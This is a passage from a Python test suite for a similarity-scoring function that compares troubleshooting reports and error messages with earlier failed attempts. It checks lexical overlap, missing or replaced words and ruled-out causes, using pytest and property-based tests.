    small = resemblance(before, NOW, {"lexical": 8.4, "rarest": 4.2}, {"lexical": 4.2, "rarest": 4.2})
    large = resemblance(before, NOW, {"lexical": 16.8, "rarest": 8.4}, {"lexical": 8.4, "rarest": 8.4})
    assert small == large
    assert small.lexical > small.error_lexical > 0


def test_a_missing_part_of_an_error_and_a_ruled_out_cause_count_against() -> None:
    earlier = failure_of_attempt(
        Attempt.model_validate({**tried("Mount it.", digest="x").body, "error_message": "cannot open /mnt/a: no route"})
    )

    def pair(error: str | None, description: str = QUERY) -> Resemblance:
        task = SubmitTask(kind="troubleshoot", description=description, error_message=error)
        return resemblance(earlier, failure_of_task(task), {}, {})

    same, less = pair("cannot open /mnt/b: no route"), pair("cannot open the socket")
    assert 0 == same.error_missing < less.error_missing
    assert pair(None).error_missing == 0, "no error lacks nothing"
    plain = pair("cannot open /mnt/b: no route", "The export stops.")
    conceded = pair("cannot open /mnt/b: no route", "The export stops although the share is mounted.")
    assert (plain.ruled_out, conceded.ruled_out) == (0.0, 1.0)
    assert likeness_model().probability(conceded) < likeness_model().probability(plain)
    assert "against: this report rules a cause out" in reasons(conceded, Circumstances())
    assert "against: this report rules a cause out" not in reasons(plain, Circumstances())


@pytest.mark.parametrize(
    ("error", "replaced", "added"),
    [
        ("Cannot open archive: no route", False, False),
        ("Export failed in step seven: cannot open archive: no route (gave up)", False, True),
        ("cannot open archive", False, False),
        ("cannot open archive: mode", True, False),
        ("disk quota exceeded", True, False),
        (None, False, False),
    ],
)
def test_a_message_that_adds_words_counts_for_and_other_words_in_its_place_against(
    error: str | None, replaced: bool, added: bool
) -> None:
    pair = _of_archive(error, QUERY)
    assert (pair.replaced > 0, pair.added > 0) == (replaced, added)
    alike = dataclasses.replace(pair, replaced=0.0, added=0.0)
    more, less = likeness_model().probability(pair), likeness_model().probability(alike)
    assert (more > less, more < less) == (added, replaced)
    said = reasons(pair, Circumstances())
    assert any("in other words" in reason for reason in said) == (0.4 <= pair.replaced < 1)


def test_words_that_a_report_repeats_from_its_error_count_once() -> None:
    error = "cannot open archive: no route"
    own, repeating = _of_archive(error, "Nightly export stops."), _of_archive(error, "No route, cannot open archive.")
    assert 0 == own.repeated < repeating.repeated
    assert likeness_model().probability(repeating) < likeness_model().probability(own)
    assert _of_archive(None, "No route, cannot open archive.").repeated == 0, "nothing is counted twice"
    assert _of_archive("disk quota exceeded", "The disk quota is exceeded.").repeated == 0, "not in the earlier error"


def _of_archive(error: str | None, description: str) -> Resemblance:
    before = {**tried("Mount it.", digest="x").body, "error_message": "cannot open archive: no route"}
    task = SubmitTask(kind="troubleshoot", description=description, error_message=error)
    return resemblance(failure_of_attempt(Attempt.model_validate(before)), failure_of_task(task), {}, {})


def test_the_same_words_in_another_order_add_nothing() -> None:
    one, other = ("checksum", "meters", "clicks"), ("clicks", "checksum", "meters")
    assert align(one, other).added == 0
    assert align(one, (*one, "quota")).added == pytest.approx(word_weight("quota"))


@given(st.lists(st.sampled_from(WORDS_OF_ERRORS), max_size=8), st.lists(st.sampled_from(WORDS_OF_ERRORS), max_size=8))
def test_no_word_of_a_message_is_kept_replaced_or_added_twice(earlier: list[str], now: list[str]) -> None:
    found = align(tuple(earlier), tuple(now))
    if earlier and now:
        assert found.kept + found.replaced <= sum(map(word_weight, earlier)) + 1e-9
        assert found.kept + found.replaced + found.added <= sum(map(word_weight, now)) + 1e-9
    assert 0 <= found.replaced_share <= 1
    if earlier == now:
        assert (found.replaced, found.added) == (0, 0)


@given(
    st.builds(Resemblance, **{name: st.floats(0, 1) for name in FEATURES}), st.sampled_from(FEATURES), st.floats(0, 3)
)
def test_more_likeness_never_lowers_the_likelihood(pair: Resemblance, name: str, more: float) -> None:
    if name != "no_error":
        raised = dataclasses.replace(pair, **{name: getattr(pair, name) + more})
        lower, upper = (raised, pair) if name in AGAINST else (pair, raised)
        assert likeness_model().probability(upper) >= likeness_model().probability(lower)
